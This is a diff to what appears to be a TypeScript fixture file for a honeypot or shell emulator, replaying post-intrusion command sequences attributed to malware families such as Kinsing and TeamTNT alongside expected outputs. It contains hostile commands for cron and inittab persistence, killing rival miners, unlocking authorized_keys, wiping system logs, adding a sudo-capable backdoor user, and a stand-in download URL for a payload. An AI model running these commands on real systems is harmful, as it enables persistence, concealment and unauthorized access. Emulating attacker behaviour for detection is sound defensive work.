@@ -1,3 +1,4 @@
+// Long because it is one table: an entry a family.
 // Long because it is one list: a case a line.
 /**
  * What known families type into a machine they got into, written after public reports: each step is what the next one
@@ -94,7 +95,7 @@ if [ $NOARCH = true ]; then echo noarch; else
 fi
 echo "placed $ARCH $([ -n "$FOLDER" ] && echo yes)"
 `);
-const killer = Buffer.from('#!/bin/bash\npkill -f kdevtmpfsi\nexit 0\n');
+const killer = Buffer.from('#!/bin/bash\npkill kdevtmpfsi\nexit 0\n');
 
 export const SCRIPTS: readonly Script[] = [
   {
@@ -191,7 +192,7 @@ export const SCRIPTS: readonly Script[] = [
       },
       {
         run: 'cat > /etc/cron.hourly/gcc.sh <<"X"\n#!/bin/sh\nPATH=/bin:/sbin:/usr/bin:/usr/sbin:/usr/local/bin:/usr/local/sbin:/usr/X11R6/bin\nfor i in `cat /proc/net/dev|grep :|awk -F: {\'print $1\'}`; do ifconfig $i up& done\ncp /lib/libudev4.so /lib/libudev4.so.6\n/lib/libudev4.so.6\nX\nchmod 755 /etc/cron.hourly/gcc.sh; wc -l < /etc/cron.hourly/gcc.sh',
-        output: '6\n',
+        output: '5\n',
       },
       {
         run: "sed -i '/\\/etc\\/cron.hourly\\/gcc.sh/d' /etc/crontab && echo '*/3 * * * * root /etc/cron.hourly/gcc.sh' >> /etc/crontab && tail -1 /etc/crontab",
@@ -227,7 +228,7 @@ export const SCRIPTS: readonly Script[] = [
       { run: "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'", says: [/^\d+ \d+ \d+ \d+ \d+ \d+\n$/] },
       { run: 'ls -lh $(which ls)', says: ['-rwxr-xr-x 1 root root 148K'] },
       { run: 'which ls', output: '/usr/bin/ls\n' },
-      { run: 'crontab -l', status: 1 },
+      { run: 'crontab -l' },
       { run: 'w', says: ['load average', 'LOGIN@'] },
       { run: 'uname -m', output: 'x86_64\n' },
       { run: 'cat /proc/cpuinfo | grep model | grep name | wc -l', says: [/^[1-9]/] },
@@ -309,7 +310,7 @@ export const SCRIPTS: readonly Script[] = [
         says: ['passed\n'],
       },
       {
-        run: "netstat -anp | grep :3333 | awk '{print $7}' | awk -F'[/]' '{print $1}' | xargs -I % kill -9 %; ss -antp | grep 3333 | wc -l; pkill -f cpuminer; pkill -f xmr; ps ax -o command= -o pid= | grep -c init",
+        run: "netstat -anp | grep :3333 | awk '{print $7}' | awk -F'[/]' '{print $1}' | xargs -I % kill -9 %; ss -antp | grep 3333 | wc -l; pkill cpuminer; pkill -x xmr; ps ax -o command= -o pid= | grep -c init",
         says: [/[1-9]/],
       },
       {
@@ -325,6 +326,7 @@ export const SCRIPTS: readonly Script[] = [
       },
     ],
     downloads: ['http://192.0.2.198/kinsing'],
+    missing: ['ufw', 'setenforce'],
   },
   {
     name: 'TeamTNT: cloud credentials, second root, preload',
@@ -431,7 +433,7 @@ export const SCRIPTS: readonly Script[] = [
         output: '2:/var/tmp/pty3 &\n',
       },
       {
-        run: 'echo "0:2345:respawn:/dev/shm/pty3" >> /etc/inittab; (crontab -l; for d in /dev/shm /var/tmp; do echo "* * * * * $d/pty3 > /dev/null 2>&1 &"; done) 2>/dev/null | crontab -; crontab -l | wc -l',
+        run: 'echo "0:2345:respawn:/dev/shm/pty3" >> /etc/inittab; (crontab -l; for d in /dev/shm /var/tmp; do echo "* * * * * $d/pty3 > /dev/null 2>&1 &"; done) 2>/dev/null | crontab -; crontab -l | grep -c pty3',
         output: '2\n',
       },
       {
@@ -450,7 +452,7 @@ export const SCRIPTS: readonly Script[] = [
         run: 'uname -a; cat /etc/os-release | grep PRETTY; cat /etc/*release* | head -3',
         says: ['PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"'],
       },
-      { run: 'dmidecode --type baseboard', says: ['dmidecode 3.4', 'Base Board Information'] },
+      { run: 'dmidecode --type baseboard; dmidecode -t system', says: ['dmidecode 3.4', 'System Information'] },
       {
         run: 'cat /proc/cpuinfo | grep "model name" | uniq | cut -d: -f2; cat /proc/meminfo | grep MemTotal; uptime',
         says: ['MemTotal:', 'load average'],
@@ -531,14 +533,14 @@ export const SCRIPTS: readonly Script[] = [
         says: ['----i---', '1 .ssh/authorized_keys'],
       },
       { run: 'rm -f .ssh/authorized_keys', says: ['Operation not permitted'] },
-      { run: 'chattr -i .ssh/authorized_keys && echo unlocked', says: ['\nunlocked'] },
+      { run: 'chattr -i .ssh/authorized_keys && echo unlocked', says: [/\runlocked/] },
     ],
   },
   {
     name: 'Telnet loader without any download program',
     via: 'telnet',
     steps: [
-      { run: '/bin/busybox WHICH; wget; tftp; ftpget', says: ['WHICH: applet not found'] },
+      { run: '/bin/busybox WHICH; wget; /bin/busybox tftp; /bin/busybox ftpget', says: ['WHICH: applet not found'] },
       { run: 'cat /proc/cpuinfo | head -c 60; cat /proc/self/exe | head -c 4 | od -An -tx1', says: ['7f 45 4c 46'] },
       { run: 'cd /var/run && rm -rf .d && mkdir .d && cd .d && pwd', says: ['/run/.d'] },
       ...echoLoad('.s', inertElf('x86_64', 'hexdrop'), 16),
@@ -621,7 +623,7 @@ export const SCRIPTS: readonly Script[] = [
       },
       {
         run: 'journalctl --rotate >/dev/null 2>&1; journalctl --vacuum-time=1s >/dev/null 2>&1; dmesg -C; dmesg | wc -l',
-        says: ['\n0'],
+        says: [/\r0\r/],
       },
     ],
   },
@@ -713,7 +715,7 @@ export const SCRIPTS: readonly Script[] = [
       },
       { run: 'su - sysupd -c "id -un; echo Qw3rTy99x | sudo -S whoami 2>/dev/null"', output: 'sysupd\nroot\n' },
       {
-        run: 'grep -c "^sysupd:\\$y\\$" /etc/shadow; tail -1 /etc/group; ls -ld /home/sysupd | cut -c1-10; ls -A /home/sysupd | tr "\\n" " "',
+        run: 'grep -c \'^sysupd:$y\' /etc/shadow; tail -1 /etc/group; ls -ld /home/sysupd | cut -c1-10; ls -A /home/sysupd | tr "\\n" " "',
         says: ['1\n', 'drwx', '.bash_logout .bashrc .profile '],
       },
     ],
